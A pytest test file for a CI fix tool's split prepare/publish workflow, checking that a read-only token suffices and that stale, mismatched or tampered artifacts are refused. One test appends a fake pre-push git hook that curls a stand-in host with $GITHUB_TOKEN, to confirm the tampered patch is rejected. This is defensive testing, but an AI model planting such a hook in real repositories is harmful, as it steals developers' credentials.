"""The split workflow: ``--output`` fixes and verifies with a read-only token and writes a
folder; ``--publish`` reads it and only pushes and posts, after checking it against GitHub."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from fixer.cli import main
from fixer.demo import FIXTURES
from tests.pr.conftest import REPO, TOKEN, World, sh
from tests.support.github_api import RunningServer
from tests.support.pypi_index import IndexServer

READER_TOKEN = "ghp_readOnlyReaderT0ken00000000000002"
TYPE_ARG = FIXTURES / "type-arg"


@pytest.fixture
def red(world: World) -> World:
    pull = world.fake.add_pull(REPO, head="feature", author="pat")
    world.red_run(pull, TYPE_ARG / "logs")
    world.fake.add_user("reader-bot", token=READER_TOKEN, type="Bot")
    world.fake.set_role(REPO, "reader-bot", "read")
    return world


def pr(
    api: RunningServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    token: str,
    *args: str,
) -> tuple[int, dict[str, object], str]:
    monkeypatch.setenv("GITHUB_TOKEN", token)
    code = main(["pr", f"{REPO}#1", "--api-url", api.base_url, "--json", *args])
    out, err = capsys.readouterr()
    assert token not in out + err
    return code, json.loads(out) if out.strip() else {}, err


def prepare(
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    folder: Path,
) -> dict[str, object]:
    args = ("--output", str(folder), "--index-url", index.url, "--actor", "maya")
    code, done, err = pr(api, capsys, monkeypatch, READER_TOKEN, *args)
    assert (code, done["action"], err) == (0, "prepared", ""), err
    return done


def test_prepare_with_a_read_only_token_then_publish(
    red: World,
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    folder = tmp_path / "artifact"
    prepare(api, index, capsys, monkeypatch, folder)
    meta = json.loads((folder / "fixer-pr.json").read_text())
    assert (meta["outcome"], meta["number"], meta["complete"]) == ("fix", 1, True)
    assert b"+from typing import Any" in (folder / "fix.patch").read_bytes()
    assert "fixer/" not in sh(red.bare, "branch", "--list")
    api_calls = [r for r in red.fake.requests if r.route is not None]  # not the downloads
    assert all(r.login == "reader-bot" and r.method == "GET" for r in api_calls)
    red.fake.requests.clear()

    # no --index-url: publishing reaches no package index (the network guard would fail)
    code, done, _ = pr(api, capsys, monkeypatch, TOKEN, "--publish", str(folder))

    assert (code, done["action"]) == (0, "opened")
    fix = red.fake.repo(REPO).pulls[2]
    assert (fix.base_ref, fix.head_ref) == ("feature", "fixer/pr-1")
    assert (
        fix.title == "fix(types): add type arguments to 3 bare generics in datasets_export.py (#1)"
    )
    head = red.fake.repo(REPO).pulls[1].head_sha
    diff = sh(red.bare, "diff", head, "fixer/pr-1")
    assert diff + "\n" == (TYPE_ARG / "expected.diff").read_text()
    assert sh(red.bare, "log", "-1", "--format=%an", "fixer/pr-1") == "fixer[bot]"
    assert not any("actions" in (r.route or "") for r in red.fake.requests)


def test_publishing_after_the_head_moved_is_refused(
    red: World,
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    prepare(api, index, capsys, monkeypatch, tmp_path / "artifact")
    pull = red.fake.repo(REPO).pulls[1]
    pull.head_sha = red.commit_on(red.bare, "feature", "late.txt", "late\n")

    code, _, err = pr(api, capsys, monkeypatch, TOKEN, "--publish", str(tmp_path / "artifact"))

    assert code == 2
    assert "its head moved from" in err and "run fixer again" in err
    assert "fixer/" not in sh(red.bare, "branch", "--list")


def test_a_tampered_patch_is_not_published(
    red: World,
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    folder = tmp_path / "artifact"
    prepare(api, index, capsys, monkeypatch, folder)
    evil = "+#!/bin/sh\n+curl https://evil.example/$GITHUB_TOKEN\n"
    extra = (
        "diff --git a/.git/hooks/pre-push b/.git/hooks/pre-push\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/.git/hooks/pre-push\n@@ -0,0 +1,2 @@\n" + evil
    )
    with (folder / "fix.patch").open("a") as patch:
        patch.write(extra)

    code, _, err = pr(api, capsys, monkeypatch, TOKEN, "--publish", str(folder))

    assert code == 2
    assert "the patch creates, deletes, renames or re-modes files" in err
    assert "fixer/" not in sh(red.bare, "branch", "--list")
    assert sorted(red.fake.repo(REPO).pulls) == [1]


def test_an_artifact_for_another_pull_request_is_refused(
    red: World,
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    folder = tmp_path / "artifact"
    prepare(api, index, capsys, monkeypatch, folder)
    meta = json.loads((folder / "fixer-pr.json").read_text())
    (folder / "fixer-pr.json").write_text(json.dumps({**meta, "number": 7}))

    code, _, err = pr(api, capsys, monkeypatch, TOKEN, "--publish", str(folder))

    assert code == 2
    assert "made for octo/app#7, not octo/app#1" in err


def test_a_refused_actor_runs_nothing_and_the_publisher_replies(
    red: World,
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    folder = tmp_path / "artifact"
    args = ("--output", str(folder), "--actor", "rita", "--index-url", index.url)

    prepared = pr(api, capsys, monkeypatch, READER_TOKEN, *args)
    published = pr(api, capsys, monkeypatch, TOKEN, "--publish", str(folder), "--actor", "rita")

    assert [(code, done["action"]) for code, done, _ in (prepared, published)] == [
        (1, "refused"),
        (1, "refused"),
    ]
    assert not folder.exists()
    (reply,) = red.fake.repo(REPO).comments.values()
    assert reply.user.login == "fixer-bot" and reply.body.startswith("@rita")


def test_nothing_fixable_is_published_as_a_comment(
    world: World,
    api: RunningServer,
    index: IndexServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    pull = world.fake.add_pull(REPO, head="feature", author="pat")
    log = (FIXTURES / "logs" / "pytest-assert" / "job.log").read_text(encoding="utf-8")
    world.red_run(pull, None, {"test": log})
    folder = tmp_path / "artifact"

    code, done, _ = pr(api, capsys, monkeypatch, TOKEN, "--output", str(folder))
    assert (code, json.loads((folder / "fixer-pr.json").read_text())["outcome"]) == (0, "report")
    assert not (folder / "fix.patch").exists()
    code, done, _ = pr(api, capsys, monkeypatch, TOKEN, "--publish", str(folder))

    assert (code, done["action"]) == (0, "commented")
    (comment,) = world.fake.repo(REPO).comments.values()
    assert "A failing test" in comment.body and "assert 20.0 == 19.0" in comment.body


@pytest.mark.parametrize("taken", ["a file in it", "a file, not a folder"])
def test_an_output_folder_that_is_not_empty_is_refused_before_any_work(
    red: World,
    api: RunningServer,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    taken: str,
) -> None:
    folder = tmp_path / "artifact"
    if taken == "a file in it":
        folder.mkdir()
        (folder / "old.txt").write_text("kept\n")
    else:
        folder.write_text("kept\n")
    code, done, err = pr(api, capsys, monkeypatch, READER_TOKEN, "--output", str(folder))
    assert (code, done) == (2, {})
    assert err.count("\n") == 1 and err.startswith(f"fixer: error: {folder}: not "), err
    assert red.fake.requests == []  # not even the actor's permission was asked
    assert (folder / "old.txt" if folder.is_dir() else folder).read_text() == "kept\n"
